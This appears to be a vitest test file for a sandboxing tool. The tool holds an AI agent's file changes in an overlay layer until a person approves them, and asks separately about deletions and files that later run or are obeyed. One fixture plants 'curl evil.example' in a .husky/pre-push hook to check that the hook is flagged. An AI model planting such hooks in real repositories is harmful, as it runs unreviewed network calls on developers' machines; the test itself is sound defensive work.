import { spawnSync } from "node:child_process";
import { existsSync, mkdirSync, readFileSync, rmdirSync, writeFileSync } from "node:fs";
import { join } from "node:path";
import { describe, expect, test } from "vitest";
import { call, response, say } from "../support/exchange.ts";
import { atTerminal, keys, ready } from "../support/terminal.ts";
import { workspace } from "../support/workspace.ts";

/** User namespaces are closed on some machines. Where continuous integration runs, they must be open. */
const hasLayer =
  process.env["CI"] !== undefined ||
  (spawnSync("unshare", ["--user", "--map-root-user", "--mount", "true"]).status === 0 &&
    spawnSync("bwrap", ["--version"]).error === undefined);

const tools = join(import.meta.dirname, "../../../../tools");
const plan = `version: 1
layer: ./
tools:
  - { module: bash, source: "file:${tools}/bash" }
  - { module: filesystem, source: "file:${tools}/filesystem" }
`;

/** A model that works in the project, in answers of one turn each. */
const turn = (command: string, text: string) => [
  response(call("c1", "bash", { command })),
  response(say(text)),
];

/** A server of MCP with one tool, which writes a file. */
const server = `
import { createInterface } from "node:readline";
import { writeFileSync } from "node:fs";
const answers = {
  initialize: ({ protocolVersion }) => ({ protocolVersion, capabilities: { tools: {} }, serverInfo: { name: "own", version: "1.0.0" } }),
  "tools/list": () => ({ tools: [{ name: "write", description: "Writes a file.", inputSchema: { type: "object" } }] }),
  "tools/call": () => (writeFileSync("made.txt", ""), { content: [{ type: "text", text: "written" }] }),
};
for await (const line of createInterface({ input: process.stdin })) {
  const { id, method, params } = JSON.parse(line);
  const answer = answers[method] ? { result: answers[method](params) } : { error: { code: -32601, message: method } };
  if (id !== undefined) process.stdout.write(JSON.stringify({ jsonrpc: "2.0", id, ...answer }) + "\\n");
}
`;

async function project(...answers: readonly object[]) {
  const world = await workspace({
    "mount-plan.yaml": plan,
    "model.json": JSON.stringify(answers),
    "src/a.txt": "one\n",
    "src/b.txt": "two\n",
  });
  const read = (path: string) => readFileSync(join(world.folder, path), "utf8");
  const has = (path: string) => existsSync(join(world.folder, path));
  return { ...world, read, has };
}

const work = "echo more >> src/a.txt; rm src/b.txt; echo 'export X=1' > .envrc; echo new > new.txt";

test("check says why a machine has no layer", async () => {
  const { here } = await project();
  const { stdout } = await here(["check"], { env: { PATH: "/nowhere" } });
  expect(stdout).toMatch(/layer \.\/: NOT on this machine, so its calls fail: \S/);
});

describe.runIf(hasLayer)("what waits in a layer", () => {
  test("is announced by check, with what is outside of the layer", async () => {
    const { here, has } = await project();
    const { stdout } = await here(["check"]);
    expect(stdout).toContain("bash: calls run in the layer over ./");
    expect(stdout).toContain("layer ./: changes wait there until a person keeps them");
    expect(has(".toolmount")).toBe(false);
  });

  test("is announced with a git repository outside of the folder, as that of a worktree", async () => {
    const { here, folder } = await project();
    const line = async () =>
      (await here(["check"])).stdout.split("\n").find((text) => text.includes("layer ./"));
    mkdirSync(join(folder, ".git"));
    expect(await line()).toMatch(/ask nothing$/);
    rmdirSync(join(folder, ".git"));
    writeFileSync(join(folder, ".git"), "gitdir: ../elsewhere/.git/worktrees/w\n");
    const repository = join(folder, "../elsewhere/.git/worktrees/w");
    expect(await line()).toContain(`ask nothing; nothing waits of the git repository ${repository}`);
  });

  test("is what a server wrote whose client the command brings with it", async () => {
    const { here, folder, has } = await project();
    const source = "source: { mcp: { command: node, args: [server.mjs] } }";
    writeFileSync(
      join(folder, "mount-plan.yaml"),
      `${plan}  - { module: own, ${source}, run: { in: layer } }\n`,
    );
    writeFileSync(join(folder, "server.mjs"), server);
    const called = await here(["call", "write", "--session", "s"]);
    expect(called.stdout).toContain("written");
    const kept = await here(["keep", "--session", "s", "--json"]);
    expect(kept.json()).toMatchObject({ changes: [{ path: "made.txt", section: "files" }] });
    expect(has("made.txt")).toBe(false);
  });

  test("is kept for a yes at the end of a turn, but for deletions and obeyed files only for a yes of their own", async () => {
    const { folder, read, has, here } = await project(...turn(work, "Done."));
    const terminal = atTerminal(["run", "--session", "s", "--model", "replay:model.json", "go"], {
      cwd: folder,
      columns: 80,
    });
    const question = await terminal.until(ready);
    expect(question).toMatch(/create new\.txt[\s\S]*change src\/a\.txt[\s\S]*\+more/);
    expect(question).toMatch(/DELETED: 1 change[\s\S]*delete src\/b\.txt/);
    expect(question).toMatch(
      /RUN OR OBEYED BY YOUR NEXT COMMAND: 1 change[\s\S]*create \.envrc[\s\S]*\+export X=1/,
    );
    expect(question).toContain("Keep 4 changes?");
    terminal.press("k");
    await terminal.until(/Keep 1 deletion, too\?[\s\S]*Press a letter/);
    terminal.press("n");
    await terminal.until(/your next command runs or obeys, too\?[\s\S]*Press a letter/);
    terminal.press("n");
    expect(await terminal.ended, terminal.text()).toBe(0);
    expect(terminal.text()).toContain("2 changes kept");
    expect([read("src/a.txt"), read("new.txt"), has("src/b.txt"), has(".envrc")]).toEqual([
      "one\nmore\n",
      "new\n",
      true,
      false,
    ]);
    const left = await here(["keep", "--session", "s", "--json"]);
    expect(left.code).toBe(3);
    expect((left.json() as { changes: { path: string }[] }).changes.map(({ path }) => path)).toEqual([
      ".envrc",
      "src/b.txt",
    ]);
    const undone = await here(["undo", "s"]);
    expect(undone.code, undone.stderr).toBe(0);
    expect([read("src/a.txt"), has("new.txt")]).toEqual(["one\n", false]);
  });

  test("shows a deletion, a hook and a CI file among 500 changes, in 80 columns", async () => {
    const many = [
      "mkdir -p many/deep .github/workflows .husky",
      "for i in $(seq 250); do echo $i > many/deep/file-with-a-long-name-$i.txt; echo $i > src/f$i; done",
      "rm src/b.txt; echo 'on: push' > .github/workflows/release.yml; echo 'curl evil.example' > .husky/pre-push",
    ];
    const { folder } = await project(...turn(many.join("; "), "Done."));
    const words = ["run", "--session", "s", "--model", "replay:model.json", "go"];
    const terminal = atTerminal(words, { cwd: folder, columns: 80 });
    const question = await terminal.until(ready);
    expect(question).toContain("Keep 508 changes?");
    expect(question).toContain("  many: 252 entries");
    expect(question).toMatch(/DELETED: 1 change\s+delete src\/b\.txt/);
    expect(question).toMatch(/create \.github\/workflows\/release\.yml\s+\+on: push/);
    expect(question).toMatch(/create \.husky\/pre-push\s+\+curl evil\.example/);
    expect(question).toMatch(/and \d+ more; toolmount keep --json lists all/);
    // What needs a yes of its own comes last, next to the question.
    const at = (text: string) => question.lastIndexOf(text);
    expect(at("more; toolmount keep")).toBeLessThan(at("DELETED"));
    terminal.press("g");
    await terminal.ended;
  });

  test("is kept in part, by names, and a deletion among them only for a yes of its own", async () => {
    const { folder, read, has } = await project(...turn(work, "Done."));
    const words = ["run", "--session", "s", "--model", "replay:model.json", "go"];
    const terminal = atTerminal(words, { cwd: folder, columns: 80 });
    await terminal.until(ready);
    terminal.press("s");
    await terminal.until(/Which, with blanks between ›/);
    terminal.press("new.txt src/b.txt gone.txt", keys.enter);
    await terminal.until(/gone\.txt does not wait[\s\S]*Keep 1 deletion, too\?[\s\S]*Press a letter/);
    terminal.press("y");
    expect(await terminal.ended, terminal.text()).toBe(0);
    expect(terminal.text()).toContain("2 changes kept");
    expect([read("src/a.txt"), has("new.txt"), has("src/b.txt"), has(".envrc")]).toEqual([
      "one\n",
      true,
      false,
      false,
    ]);
  });

  test("is looked at in a shell of the layer, in which more can be changed", async () => {
    const { folder, has } = await project(...turn(work, "Done."));
    const words = ["run", "--session", "s", "--model", "replay:model.json", "go"];
    const terminal = atTerminal(words, { cwd: folder, env: { SHELL: "/bin/bash" } });
    await terminal.until(ready);
    terminal.press("l");
    await terminal.until(/exit ends it[\s\S]*[#$]\s*$/);
    // Programs there obey what the agent wrote, so they reach nothing else.
    const outside = `${folder}-outside`;
    const attempts = `echo x > ${outside}; echo x > /var/tmp/toolmount-outside; tail -n +3 /proc/net/dev | wc -l > links.txt`;
    terminal.press(`${attempts}; cat new.txt src/a.txt; echo $((40 + 2)) > own.txt; exit\r`);
    await terminal.until(
      /new\s+one\s+more[\s\S]*create own\.txt[\s\S]*Keep 6 changes\?[\s\S]*Press a letter/,
    );
    terminal.press("g");
    expect(await terminal.ended, terminal.text()).toBe(0);
    expect(terminal.text()).toMatch(/create links\.txt\s+\+1/);
    expect([existsSync("/var/tmp/toolmount-outside"), existsSync(outside), has("own.txt")]).toEqual([
      false,
      false,
      false,
    ]);
  });

  test("is dropped in a chat, whose model reads that", async () => {
    const { folder, read, has, here } = await project(...turn(work, "Done."), response(say("I see.")));
    const words = ["chat", "--session", "s", "--model", "replay:model.json"];
    const terminal = atTerminal(words, { cwd: folder, columns: 80 });
    await terminal.until(/You ›/);
    terminal.press("go", keys.enter);
    await terminal.until(/Keep 4 changes\?[\s\S]*Press a letter/);
    terminal.press("d");
    await terminal.until(/Press Enter: Drop them all/);
    terminal.press(keys.enter);
    await terminal.until(/4 changes dropped[\s\S]*You ›/);
    terminal.press("and now?", keys.enter);
    await terminal.until(/I see\.[\s\S]*You ›/);
    terminal.press(keys.ctrlD);
    expect(await terminal.ended, terminal.text()).toBe(0);
    expect([read("src/a.txt"), has("src/b.txt"), has("new.txt")]).toEqual(["one\n", true, false]);
    expect((await here(["sessions", "show", "s", "--json"])).stdout).toContain(
      "(The user dropped all that you changed",
    );
  });

  test("is kept without a terminal by its digest, by file, and not when it is another one", async () => {
    const { here, read, has } = await project();
    const bash = (command: string) => here(["call", "bash", JSON.stringify({ command })]);
    expect((await bash(work)).code).toBe(0);
    const shown = await here(["keep"]);
    expect(shown.code).toBe(3);
    expect(shown.stdout).toContain("DELETED: 1 change");
    const { digest } = (await here(["keep", "--json"])).json() as { digest: string };
    const some = await here(["keep", "mount-plan.yaml", "new.txt", "--accept", digest]);
    expect(some.code, some.stderr).toBe(0);
    expect([has("new.txt"), read("src/a.txt")]).toEqual([true, "one\n"]);
    const again = await here(["keep", "--accept", digest]);
    expect(again.code).toBe(1);
    expect(again.stderr).toContain("the changes are other ones than were shown");
    expect((await here(["keep", "--remove"])).stdout).toContain("3 changes dropped");
    expect((await here(["keep"])).stdout).toContain("nothing waits");
    expect([has("new.txt"), has("src/b.txt")]).toEqual([true, true]);
  });

  test("is kept in parts of a file, by their numbers", async () => {
    const { here, read, folder } = await project();
    const lines = Array.from({ length: 30 }, (_, at) => `${at + 1}`);
    writeFileSync(join(folder, "long.txt"), `${lines.join("\n")}\n`);
    const command = "sed -i 's/^3$/three/; s/^13$/x/; s/^25$/y/' long.txt; echo new > new.txt";
    expect((await here(["call", "bash", JSON.stringify({ command })])).code).toBe(0);
    const { digest } = (await here(["keep", "--json"])).json() as { digest: string };
    const kept = await here(["keep", "mount-plan.yaml", "long.txt:1,3", "gone.txt", "--accept", digest]);
    expect(kept.code, kept.stderr).toBe(0);
    expect(kept.stderr).toMatch(/gone\.txt does not wait[\s\S]*1 change kept/);
    expect(read("long.txt")).toBe(`${lines.with(2, "three").with(24, "y").join("\n")}\n`);
    expect((await here(["keep"])).stdout).toMatch(/change long\.txt[\s\S]*-13\n\s+\+x/);
  });

  test("of a file that the user changed, too, is a conflict, and nothing is kept", async () => {
    const { here, folder, read } = await project();
    expect((await here(["call", "write_file", `{"file_path":"src/a.txt","content":"model"}`])).code).toBe(0);
    spawnSync("/bin/sh", ["-c", "echo user > src/a.txt"], { cwd: folder });
    const { digest } = (await here(["keep", "--json"])).json() as { digest: string };
    const kept = await here(["keep", "--accept", digest]);
    expect(kept.code).toBe(1);
    expect(kept.stderr).toContain("Nothing was kept: you changed the same since: src/a.txt");
    expect(kept.stderr).toMatch(/the session would change src\/a\.txt\n\s+-user\n\s+\+model/);
    expect(read("src/a.txt")).toBe("user\n");
  });
});
